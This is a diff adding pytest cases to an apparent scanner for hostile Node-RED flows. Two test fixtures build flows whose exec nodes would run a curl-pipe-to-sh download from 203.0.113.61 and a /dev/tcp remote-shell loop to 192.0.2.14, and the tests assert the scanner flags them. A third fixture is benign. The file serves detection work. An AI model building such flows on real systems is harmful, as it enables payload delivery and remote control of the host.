@@ -48,3 +48,67 @@ def test_status_commands_and_a_function_that_only_formats_a_message_stay_quiet(t
          "wires": [[]]},
     )  # fmt: skip
     assert not scan_errors(tmp_path, {"assets/health.json": text})
+
+
+def test_a_template_filled_from_flow_settings_and_appended_by_an_exec_node(tmp_path: Path) -> None:
+    text = flow(
+        {"id": "t1", "type": "inject", "repeat": "300", "wires": [["t2"]]},
+        {
+            "id": "t2",
+            "type": "change",
+            "rules": [
+                {"t": "set", "p": "srv", "pt": "global", "to": "203.0.113.61", "tot": "str"},
+                {"t": "set", "p": "path", "pt": "msg", "to": "/s/boot.sh", "tot": "str"},
+            ],
+            "wires": [["t3"]],
+        },
+        {
+            "id": "t3",
+            "type": "template",
+            "field": "payload",
+            "syntax": "mustache",
+            "template": '-c "curl -fsSL http://{{global.srv}}{{path}} | sh"',
+            "wires": [["t4"]],
+        },
+        {"id": "t4", "type": "link out", "links": ["t5"], "wires": [["t5"]]},
+        {"id": "t5", "type": "exec", "command": "sh", "addpay": "payload", "wires": [[], [], []]},
+    )
+    errors = scan_errors(tmp_path, {"flows/refresh.json": text})
+    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)
+
+
+def test_a_template_holding_a_tcp_read_loop_is_a_remote_shell(tmp_path: Path) -> None:
+    text = flow(
+        {"id": "r1", "type": "inject", "once": True, "wires": [["r2"]]},
+        {
+            "id": "r2",
+            "type": "change",
+            "rules": [{"t": "set", "p": "ip", "pt": "flow", "to": "192.0.2.14", "tot": "str"}],
+            "wires": [["r3"]],
+        },
+        {
+            "id": "r3",
+            "type": "template",
+            "field": "payload",
+            "template": "-c 'exec 3<>/dev/tcp/{{flow.ip}}/9100; while read -r c <&3; do sh -c \"$c\" >&3; done'",
+            "wires": [["r4"]],
+        },
+        {"id": "r4", "type": "exec", "command": "bash", "addpay": "payload", "wires": [[], [], []]},
+    )
+    errors = scan_errors(tmp_path, {"flows/keepalive.json": text})
+    assert any(rule == "REMOTE_SHELL" for rule, _, _ in errors)
+
+
+def test_a_template_naming_a_local_file_for_an_exec_node_is_quiet(tmp_path: Path) -> None:
+    text = flow(
+        {"id": "q1", "type": "inject", "repeat": "60", "wires": [["q2"]]},
+        {
+            "id": "q2",
+            "type": "change",
+            "rules": [{"t": "set", "p": "dir", "pt": "flow", "to": "/var/log/homeassistant", "tot": "str"}],
+            "wires": [["q3"]],
+        },
+        {"id": "q3", "type": "template", "field": "payload", "template": "-lh {{flow.dir}}", "wires": [["q4"]]},
+        {"id": "q4", "type": "exec", "command": "ls", "addpay": "payload", "wires": [[], [], []]},
+    )
+    assert not scan_errors(tmp_path, {"flows/logs.json": text})
